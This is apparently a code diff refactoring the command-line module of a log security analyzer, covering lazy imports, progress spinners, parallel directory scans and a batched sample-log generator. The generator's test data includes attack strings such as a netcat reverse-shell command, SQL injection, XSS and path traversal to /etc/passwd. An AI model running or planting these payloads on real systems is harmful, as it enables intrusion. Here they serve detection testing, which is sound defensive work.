@@ -9,26 +9,76 @@ beautiful terminal output with colors, tables, and progress indicators.
 """
 
 import click
+import functools
 import os
 import sys
-from typing import Optional
-from datetime import datetime
-import json
-
-from rich.console import Console
-from rich.table import Table
-from rich.panel import Panel
-from rich.progress import Progress, SpinnerColumn, TextColumn
-from rich.syntax import Syntax
-from rich.text import Text
-
-from .analyzer import LogAnalyzer, AnalysisResult, merge_analysis_results
+from contextlib import contextmanager
+from itertools import groupby, islice
+from operator import attrgetter
+from types import MappingProxyType
+from typing import Optional, TYPE_CHECKING
+
 from .rules import Severity, SecurityRules
-from .utils import format_bytes
 
-# Initialize Rich console for beautiful terminal output
-# Handles colors, formatting, tables, and progress indicators
-console = Console()
+# Rich and the analyzer are imported inside the commands that use them, so
+# --help and light commands don't pay for loading them
+if TYPE_CHECKING:
+    from .analyzer import AnalysisResult
+
+
+@functools.lru_cache(maxsize=None)
+def _get_console():
+    """
+    Return the shared Rich console, creating it on first use
+    
+    Handles colors, formatting, tables, and progress indicators.
+    """
+    from rich.console import Console
+    return Console()
+
+# Severity levels in ascending order, for --severity thresholds
+_SEVERITY_RANK = {Severity.LOW: 0, Severity.MEDIUM: 1, Severity.HIGH: 2, Severity.CRITICAL: 3}
+
+# Display colours for severities, and for severity values / risk levels given as strings
+_SEVERITY_COLORS = {
+    Severity.LOW: "green",
+    Severity.MEDIUM: "yellow",
+    Severity.HIGH: "orange1",
+    Severity.CRITICAL: "red"
+}
+_LEVEL_COLORS = {severity.value: color for severity, color in _SEVERITY_COLORS.items()}
+
+# Read-only stand-in for a missing summary section
+_EMPTY = MappingProxyType({})
+
+# English month abbreviations, as the log parsers expect regardless of locale
+_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun",
+           "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
+
+
+@contextmanager
+def _spinner(console, description: str):
+    """
+    Show a transient spinner while the block runs, yielding a callable that
+    updates its description
+    
+    When output is not a terminal (piped, redirected, CI) no Progress display
+    or refresh thread is started and updates are ignored.
+    """
+    if not console.is_terminal:
+        yield lambda description: None
+        return
+    
+    from rich.progress import Progress, SpinnerColumn, TextColumn
+    
+    with Progress(
+        SpinnerColumn(),
+        TextColumn("[progress.description]{task.description}"),
+        console=console,
+        transient=True
+    ) as progress:
+        task = progress.add_task(description, total=None)
+        yield lambda description: progress.update(task, description=description)
 
 
 @click.group()
@@ -77,7 +127,9 @@ def analyze(log_file: str, output: Optional[str], output_format: str,
            severity: Optional[str], category: Optional[str], 
            max_lines: Optional[int], verbose: bool, no_color: bool):
     """Analyze a single log file for security threats."""
+    from .analyzer import LogAnalyzer
     
+    console = _get_console()
     if no_color:
         console._color_system = None
     
@@ -85,18 +137,11 @@ def analyze(log_file: str, output: Optional[str], output_format: str,
         console.print(f"[bold blue]LogSentry Security Analyzer[/bold blue]")
         console.print(f"Analyzing: {log_file}")
         
-        with Progress(
-            SpinnerColumn(),
-            TextColumn("[progress.description]{task.description}"),
-            console=console,
-            transient=True
-        ) as progress:
-            task = progress.add_task("Analyzing log file...", total=None)
-            
+        with _spinner(console, "Analyzing log file...") as update_status:
             analyzer = LogAnalyzer()
             result = analyzer.analyze_file(log_file, max_lines)
             
-            progress.update(task, description="Processing results...")
+            update_status("Processing results...")
         
         # Filter results if requested
         filtered_result = _filter_result(result, severity, category)
@@ -126,43 +171,50 @@ def analyze(log_file: str, output: Optional[str], output_format: str,
 @click.option('--severity', '-s',
               type=click.Choice(['low', 'medium', 'high', 'critical'], case_sensitive=False),
               help='Filter by minimum severity level')
+@click.option('--workers', '-w', type=int, default=None,
+              help='Number of worker processes (default: one per CPU core)')
 @click.option('--verbose', '-v', is_flag=True, help='Verbose output')
 def scan(directory: str, pattern: str, output: Optional[str], output_format: str,
-         severity: Optional[str], verbose: bool):
+         severity: Optional[str], workers: Optional[int], verbose: bool):
     """Scan a directory for log files and analyze them."""
+    from .analyzer import LogAnalyzer, merge_analysis_results, write_json
     
+    console = _get_console()
     try:
         console.print(f"[bold blue]LogSentry Directory Scan[/bold blue]")
         console.print(f"Scanning directory: {directory}")
         console.print(f"File pattern: {pattern}")
         
-        with Progress(
-            SpinnerColumn(),
-            TextColumn("[progress.description]{task.description}"),
-            console=console,
-            transient=True
-        ) as progress:
-            task = progress.add_task("Scanning directory...", total=None)
-            
+        with _spinner(console, "Scanning directory...") as update_status:
             analyzer = LogAnalyzer()
-            results = analyzer.analyze_directory(directory, pattern)
+            file_rows = []
+            
+            def tracked_results():
+                # Keep only what the file table needs; each result is merged
+                # and released before the next file's result is held
+                basename = os.path.basename
+                for result in analyzer.iter_analyze_directory(directory, pattern, workers=workers):
+                    file_rows.append((
+                        basename(result.file_path),
+                        result.total_lines,
+                        len(result.detections),
+                        (result.summary.get('risk_score') or _EMPTY).get('level', 'unknown')
+                    ))
+                    update_status(f"Analyzed {len(file_rows)} file(s)...")
+                    yield result
             
-            progress.update(task, description="Merging results...")
+            merged = merge_analysis_results(tracked_results())
         
-        if not results:
+        if not file_rows:
             console.print("[yellow]No log files found or analyzed[/yellow]")
             return
         
-        # Merge results
-        merged = merge_analysis_results(results)
-        
         # Display summary
-        _display_scan_summary(results, merged, verbose)
+        _display_scan_summary(file_rows, merged, verbose)
         
         # Export if requested
         if output:
-            with open(output, 'w') as f:
-                json.dump(merged, f, indent=2, default=str)
+            write_json(merged, output, default=str)
             console.print(f"[green]Merged results exported to {output}[/green]")
         
     except Exception as e:
@@ -177,6 +229,7 @@ def scan(directory: str, pattern: str, output: Optional[str], output_format: str
 def generate_sample(output: str, count: int, include_attacks: bool):
     """Generate sample log data for testing."""
     
+    console = _get_console()
     try:
         _generate_sample_logs(output, count, include_attacks)
         console.print(f"[green]Sample log file generated: {output}[/green]")
@@ -192,19 +245,16 @@ def generate_sample(output: str, count: int, include_attacks: bool):
 @cli.command()
 def list_rules():
     """List all available security detection rules."""
+    from rich.table import Table
     
+    console = _get_console()
     rules = SecurityRules()
     
     console.print("[bold blue]LogSentry Security Rules[/bold blue]\n")
     
-    # Group rules by category
-    by_category = {}
-    for rule in rules.rules:
-        if rule.category not in by_category:
-            by_category[rule.category] = []
-        by_category[rule.category].append(rule)
-    
-    for category, category_rules in by_category.items():
+    # Group rules by category, listing categories alphabetically
+    by_category = attrgetter('category')
+    for category, category_rules in groupby(sorted(rules.rules, key=by_category), key=by_category):
         table = Table(title=f"Category: {category.replace('_', ' ').title()}")
         table.add_column("Rule Name", style="cyan")
         table.add_column("Severity", style="bold")
@@ -212,16 +262,9 @@ def list_rules():
         table.add_column("Tags", style="dim")
         
         for rule in category_rules:
-            severity_color = {
-                Severity.LOW: "green",
-                Severity.MEDIUM: "yellow", 
-                Severity.HIGH: "orange1",
-                Severity.CRITICAL: "red"
-            }.get(rule.severity, "white")
-            
             table.add_row(
                 rule.name,
-                f"[{severity_color}]{rule.severity.value}[/{severity_color}]",
+                _level_cell(rule.severity.value),
                 rule.description,
                 ", ".join(rule.tags[:3])  # Show first 3 tags
             )
@@ -236,7 +279,9 @@ def list_rules():
 def test_rules(text: str, verbose: bool):
     """Test security rules against a text string."""
     
+    console = _get_console()
     try:
+        from rich.table import Table
         from .rules import RuleEngine
         
         console.print(f"[bold blue]Testing Rules Against Text[/bold blue]")
@@ -254,16 +299,9 @@ def test_rules(text: str, verbose: bool):
             table.add_column("Confidence", justify="right")
             
             for detection in detections:
-                severity_color = {
-                    Severity.LOW: "green",
-                    Severity.MEDIUM: "yellow",
-                    Severity.HIGH: "orange1", 
-                    Severity.CRITICAL: "red"
-                }.get(detection.severity, "white")
-                
                 table.add_row(
                     detection.rule_name,
-                    f"[{severity_color}]{detection.severity.value}[/{severity_color}]",
+                    _level_cell(detection.severity.value),
                     detection.category,
                     detection.description,
                     f"{detection.confidence:.2f}"
@@ -278,27 +316,39 @@ def test_rules(text: str, verbose: bool):
         sys.exit(1)
 
 
-def _filter_result(result: AnalysisResult, severity: Optional[str], category: Optional[str]) -> AnalysisResult:
+@functools.lru_cache(maxsize=8)
+def _severity_rank(severity: str) -> int:
+    """Return the rank of a --severity option value (case-insensitive)."""
+    return _SEVERITY_RANK[Severity(severity.lower())]
+
+
+def _filter_result(result: 'AnalysisResult', severity: Optional[str], category: Optional[str]) -> 'AnalysisResult':
     """Filter analysis result based on criteria."""
     
     if not severity and not category:
         return result
     
-    filtered_detections = result.detections.copy()
+    if category:
+        # Rule categories are interned, so matches compare by identity
+        category = sys.intern(category)
     
     if severity:
-        severity_enum = Severity(severity.lower())
-        severity_order = [Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL]
-        min_level = severity_order.index(severity_enum)
+        min_level = _severity_rank(severity)
+        rank = _SEVERITY_RANK
         
+        if category:
+            filtered_detections = [
+                d for d in result.detections
+                if rank[d.severity] >= min_level and d.category == category
+            ]
+        else:
+            filtered_detections = [
+                d for d in result.detections
+                if rank[d.severity] >= min_level
+            ]
+    else:
         filtered_detections = [
-            d for d in filtered_detections 
-            if severity_order.index(d.severity) >= min_level
-        ]
-    
-    if category:
-        filtered_detections = [
-            d for d in filtered_detections 
+            d for d in result.detections
             if d.category == category
         ]
     
@@ -307,8 +357,20 @@ def _filter_result(result: AnalysisResult, severity: Optional[str], category: Op
     return result
 
 
-def _display_console_results(result: AnalysisResult, verbose: bool):
+@functools.lru_cache(maxsize=None)
+def _level_cell(level: str) -> str:
+    """Return the coloured table cell markup for a severity value or risk level."""
+    color = _LEVEL_COLORS.get(level, 'white')
+    return f"[{color}]{level}[/{color}]"
+
+
+def _display_console_results(result: 'AnalysisResult', verbose: bool):
     """Display results in console format."""
+    from rich.panel import Panel
+    from rich.table import Table
+    
+    console = _get_console()
+    risk_score = result.summary.get('risk_score') or _EMPTY
     
     # Summary panel
     summary_text = f"""
@@ -316,7 +378,7 @@ File: {result.file_path}
 Total lines: {result.total_lines:,}
 Parsed lines: {result.parsed_lines:,}
 Analysis time: {result.analysis_time:.2f}s
-Risk Score: {result.summary.get('risk_score', {}).get('score', 0)}/100 ({result.summary.get('risk_score', {}).get('level', 'unknown')})
+Risk Score: {risk_score.get('score', 0)}/100 ({risk_score.get('level', 'unknown')})
     """
     
     console.print(Panel(summary_text.strip(), title="Analysis Summary", style="blue"))
@@ -334,12 +396,7 @@ Risk Score: {result.summary.get('risk_score', {}).get('score', 0)}/100 ({result.
         summary_table.add_row("Suspicious IPs", str(detection_summary.get('suspicious_ips', 0)))
         
         for severity, count in detection_summary.get('by_severity', {}).items():
-            severity_color = {
-                'low': 'green',
-                'medium': 'yellow',
-                'high': 'orange1',
-                'critical': 'red'
-            }.get(severity, 'white')
+            severity_color = _LEVEL_COLORS.get(severity, 'white')
             summary_table.add_row(f"[{severity_color}]{severity.title()} Severity[/{severity_color}]", str(count))
         
         console.print(summary_table)
@@ -351,18 +408,11 @@ Risk Score: {result.summary.get('risk_score', {}).get('score', 0)}/100 ({result.
             threats_table.add_column("Count", justify="right")
             threats_table.add_column("Severity", style="bold")
             
-            for threat in detection_summary['top_threats'][:10]:
-                severity_color = {
-                    'low': 'green',
-                    'medium': 'yellow',
-                    'high': 'orange1',
-                    'critical': 'red'
-                }.get(threat['severity'], 'white')
-                
+            for threat in islice(detection_summary['top_threats'], 10):
                 threats_table.add_row(
                     threat['rule'],
                     str(threat['count']),
-                    f"[{severity_color}]{threat['severity']}[/{severity_color}]"
+                    _level_cell(threat['severity'])
                 )
             
             console.print(threats_table)
@@ -376,35 +426,35 @@ Risk Score: {result.summary.get('risk_score', {}).get('score', 0)}/100 ({result.
             detections_table.add_column("Matched Text", max_width=50)
             detections_table.add_column("Confidence", justify="right")
             
-            for detection in result.detections[:20]:  # Limit to first 20
-                severity_color = {
-                    Severity.LOW: 'green',
-                    Severity.MEDIUM: 'yellow',
-                    Severity.HIGH: 'orange1',
-                    Severity.CRITICAL: 'red'
-                }.get(detection.severity, 'white')
+            for detection in islice(result.detections, 20):  # Limit to first 20
+                matched_text = detection.matched_text
                 
                 detections_table.add_row(
                     str(detection.line_number),
                     detection.rule_name,
-                    f"[{severity_color}]{detection.severity.value}[/{severity_color}]",
-                    detection.matched_text[:47] + "..." if len(detection.matched_text) > 50 else detection.matched_text,
+                    _level_cell(detection.severity.value),
+                    matched_text[:47] + "..." if len(matched_text) > 50 else matched_text,
                     f"{detection.confidence:.2f}"
                 )
             
             console.print(detections_table)
-            if len(result.detections) > 20:
-                console.print(f"[dim]... and {len(result.detections) - 20} more detections[/dim]")
+            detection_count = len(result.detections)
+            if detection_count > 20:
+                console.print(f"[dim]... and {detection_count - 20} more detections[/dim]")
     
     else:
         console.print("[green]No security threats detected![/green]")
 
 
-def _display_scan_summary(results, merged, verbose: bool):
-    """Display directory scan summary."""
+def _display_scan_summary(file_rows, merged, verbose: bool):
+    """Display directory scan summary from (file name, lines, detections, risk level) rows."""
+    from rich.panel import Panel
+    from rich.table import Table
+    
+    console = _get_console()
     
     summary_text = f"""
-Files analyzed: {len(results)}
+Files analyzed: {len(file_rows)}
 Total lines: {merged['total_lines']:,}
 Total detections: {merged['total_detections']:,}
 Total analysis time: {merged['total_analysis_time']:.2f}s
@@ -412,7 +462,7 @@ Total analysis time: {merged['total_analysis_time']:.2f}s
     
     console.print(Panel(summary_text.strip(), title="Scan Summary", style="blue"))
     
-    if results:
+    if file_rows:
         # File results table
         files_table = Table(title="File Analysis Results")
         files_table.add_column("File", style="cyan")
@@ -420,20 +470,12 @@ Total analysis time: {merged['total_analysis_time']:.2f}s
         files_table.add_column("Detections", justify="right")
         files_table.add_column("Risk Level", style="bold")
         
-        for result in results:
-            risk_level = result.summary.get('risk_score', {}).get('level', 'unknown')
-            risk_color = {
-                'low': 'green',
-                'medium': 'yellow', 
-                'high': 'orange1',
-                'critical': 'red'
-            }.get(risk_level, 'white')
-            
+        for file_name, total_lines, detection_count, risk_level in file_rows:
             files_table.add_row(
-                os.path.basename(result.file_path),
-                f"{result.total_lines:,}",
-                str(len(result.detections)),
-                f"[{risk_color}]{risk_level}[/{risk_color}]"
+                file_name,
+                f"{total_lines:,}",
+                str(detection_count),
+                _level_cell(risk_level)
             )
         
         console.print(files_table)
@@ -456,55 +498,104 @@ def _generate_sample_logs(output_file: str, count: int, include_attacks: bool):
     import random
     from datetime import datetime, timedelta
     
-    sample_ips = [
+    sample_ips = (
         "192.168.1.100", "10.0.0.50", "172.16.0.10",
         "203.0.113.42", "198.51.100.25", "93.184.216.34"
-    ]
+    )
     
-    normal_requests = [
+    normal_requests = (
         'GET /index.html HTTP/1.1',
         'GET /about.html HTTP/1.1', 
         'POST /login HTTP/1.1',
         'GET /images/logo.png HTTP/1.1',
         'GET /css/style.css HTTP/1.1'
-    ]
+    )
     
-    attack_patterns = [
+    # Apache-style requests with attacks, and syslog-style attack messages
+    apache_attacks = (
         "GET /admin/config.php?file=../../../etc/passwd HTTP/1.1",
         "POST /login HTTP/1.1' OR 1=1--",
         "GET /search?q=<script>alert('xss')</script> HTTP/1.1",
         "GET /app?cmd=nc -e /bin/sh 192.168.1.1 4444 HTTP/1.1",
-        "GET /wp-admin/ HTTP/1.1\" User-Agent: sqlmap/1.0",
+        "GET /wp-admin/ HTTP/1.1\" User-Agent: sqlmap/1.0"
+    )
+    syslog_attacks = (
         "multiple failed login attempts detected from 203.0.113.42",
         "privilege escalation attempt: sudo su - root"
-    ]
+    )
     
-    with open(output_file, 'w') as f:
+    attack_statuses = (400, 403, 404, 500)
+    normal_statuses = (200, 304, 301, 404)
+    
+    # Local aliases keep global lookups out of the per-line loop
+    choice = random.choice
+    choices = random.choices
+    rand = random.random
+    randint = random.randint
+    
+    with open(output_file, 'w', buffering=1 << 20) as f:
         base_time = datetime.now() - timedelta(hours=24)
         
-        for i in range(count):
-            timestamp = base_time + timedelta(minutes=random.randint(0, 1440))
-            ip = random.choice(sample_ips)
+        # Timestamps fall on one of 1441 minutes, so each is formatted once
+        apache_stamps = {}
+        syslog_stamps = {}
+        
+        def apache_stamp(minute: int) -> str:
+            stamp = apache_stamps.get(minute)
+            if stamp is None:
+                timestamp = base_time + timedelta(minutes=minute)
+                stamp = apache_stamps[minute] = (
+                    f"{timestamp.day:02d}/{_MONTHS[timestamp.month - 1]}/{timestamp.year}:"
+                    f"{timestamp.hour:02d}:{timestamp.minute:02d}:{timestamp.second:02d} +0000"
+                )
+            return stamp
+        
+        def syslog_stamp(minute: int) -> str:
+            stamp = syslog_stamps.get(minute)
+            if stamp is None:
+                timestamp = base_time + timedelta(minutes=minute)
+                stamp = syslog_stamps[minute] = (
+                    f"{_MONTHS[timestamp.month - 1]} {timestamp.day:02d} "
+                    f"{timestamp.hour:02d}:{timestamp.minute:02d}:{timestamp.second:02d}"
+                )
+            return stamp
+        
+        minute_range = range(1441)
+        normal_sizes = range(500, 5001)
+        
+        # Work in batches: draw each column for the whole batch with one
+        # choices() call, then write the batch with a single write()
+        remaining = count
+        while remaining > 0:
+            n = min(remaining, 8192)
+            remaining -= n
+            columns = zip(
+                choices(minute_range, k=n),
+                choices(sample_ips, k=n),
+                choices(normal_requests, k=n),
+                choices(normal_statuses, k=n),
+                choices(normal_sizes, k=n),
+            )
             
-            if include_attacks and random.random() < 0.1:  # 10% attack patterns
-                if random.random() < 0.5:
-                    # Apache-style log with attack
-                    request = random.choice(attack_patterns[:5])
-                    status = random.choice([400, 403, 404, 500])
-                    size = random.randint(200, 1000)
-                    log_line = f'{ip} - - [{timestamp.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "{request}" {status} {size}'
+            batch = []
+            for minute, ip, request, status, size in columns:
+                if include_attacks and rand() < 0.1:  # 10% attack patterns
+                    if rand() < 0.5:
+                        # Apache-style log with attack
+                        request = choice(apache_attacks)
+                        status = choice(attack_statuses)
+                        size = randint(200, 1000)
+                        log_line = f'{ip} - - [{apache_stamp(minute)}] "{request}" {status} {size}'
+                    else:
+                        # Syslog-style with attack
+                        attack = choice(syslog_attacks)
+                        log_line = f'{syslog_stamp(minute)} server security: {attack}'
                 else:
-                    # Syslog-style with attack
-                    attack = random.choice(attack_patterns[5:])
-                    log_line = f'{timestamp.strftime("%b %d %H:%M:%S")} server security: {attack}'
-            else:
-                # Normal request
-                request = random.choice(normal_requests)
-                status = random.choice([200, 304, 301, 404])
-                size = random.randint(500, 5000)
-                log_line = f'{ip} - - [{timestamp.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "{request}" {status} {size}'
+                    # Normal request
+                    log_line = f'{ip} - - [{apache_stamp(minute)}] "{request}" {status} {size}'
+                batch.append(log_line)
             
-            f.write(log_line + '\n')
+            f.write('\n'.join(batch) + '\n')
 
 
 @cli.command()